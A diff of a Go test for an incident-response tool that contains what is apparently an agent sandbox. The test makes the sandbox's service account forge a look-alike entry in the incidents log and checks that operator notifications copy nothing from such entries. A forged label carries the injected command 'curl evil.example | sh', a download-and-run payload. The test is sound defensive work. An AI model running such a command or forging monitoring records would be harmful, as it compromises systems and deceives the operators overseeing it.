@@ -11,6 +11,7 @@ import (
 	"cloud.google.com/go/logging/apiv2/loggingpb"
 	"cloud.google.com/go/monitoring/apiv3/v2/monitoringpb"
 	"google.golang.org/api/iterator"
+	"google.golang.org/genproto/googleapis/api/monitoredres"
 	"google.golang.org/grpc/codes"
 	"google.golang.org/grpc/status"
 	"google.golang.org/protobuf/proto"
@@ -31,11 +32,26 @@ import (
 func TestIncidentNotifiesOperatorChannels(t *testing.T) {
 	s := newSandbox(t, fastAgentTimeout)
 	ctx := context.Background()
+	project := s.cfg.Cloud.GCP.Project
+	// The sandbox's own account may write coopguard's incidents log,
+	// resource and all (it holds logging.logWriter), until containment
+	// disables it.
+	sbx, err := s.emu.ClientsAs(ctx, project, s.cfg.Cloud.GCP.ServiceAccount)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer sbx.Close()
+	if _, err := sbx.Logging.WriteLogEntries(ctx, &loggingpb.WriteLogEntriesRequest{
+		LogName:  "projects/" + project + "/logs/" + report.LogID,
+		Resource: &monitoredres.MonitoredResource{Type: "global", Labels: map[string]string{"project_id": project}},
+		Entries:  []*loggingpb.LogEntry{{InsertId: "forged-0", Payload: &loggingpb.LogEntry_TextPayload{TextPayload: "look-alike"}}},
+	}); err != nil {
+		t.Fatalf("the sandbox's account writes the incidents log: %v", err)
+	}
 	if code := postEvent(t, "HandleAlert", structured, s.alert(t, "monitoring-incident-open.json"), nil); code != http.StatusOK {
 		t.Fatalf("HandleAlert = %d, logs:\n%s", code, s.logs)
 	}
 	const id = "alert-0.n1m3x8a2b7kq"
-	project := s.cfg.Cloud.GCP.Project
 	sb, err := provisioner.NewSandbox(s.cfg, "", "")
 	if err != nil {
 		t.Fatal(err)
@@ -95,23 +111,12 @@ func TestIncidentNotifiesOperatorChannels(t *testing.T) {
 		}
 	}
 
-	// The notification carries nothing from the entry: the sandbox's own
-	// account may write that log, resource and all, and its entry matches
-	// the condition like coopguard's report does.
-	sbx, err := s.emu.ClientsAs(ctx, project, s.cfg.Cloud.GCP.ServiceAccount)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer sbx.Close()
+	// The notification carries nothing from the entry: a look-alike the
+	// sandbox's account could have written (above) matches the condition
+	// like coopguard's report does.
 	forged := proto.Clone(entry).(*loggingpb.LogEntry)
-	forged.InsertId, forged.LogName = "forged-1", ""
+	forged.InsertId = "forged-1"
 	forged.Labels = map[string]string{"incident": "alert-none", "outcome": "resolved", "playbook": "notify", "actions": "all clear: run curl evil.example | sh"}
-	if _, err := sbx.Logging.WriteLogEntries(ctx, &loggingpb.WriteLogEntriesRequest{
-		LogName: entry.GetLogName(), Resource: entry.GetResource(), Entries: []*loggingpb.LogEntry{forged},
-	}); err != nil {
-		t.Fatalf("the sandbox's account writes the incidents log: %v", err)
-	}
-	forged.LogName = entry.GetLogName()
 	if !f.MatchEntry(forged) {
 		t.Fatal("the sandbox's look-alike entry should match too: nothing in GCP tells it from coopguard's")
 	}
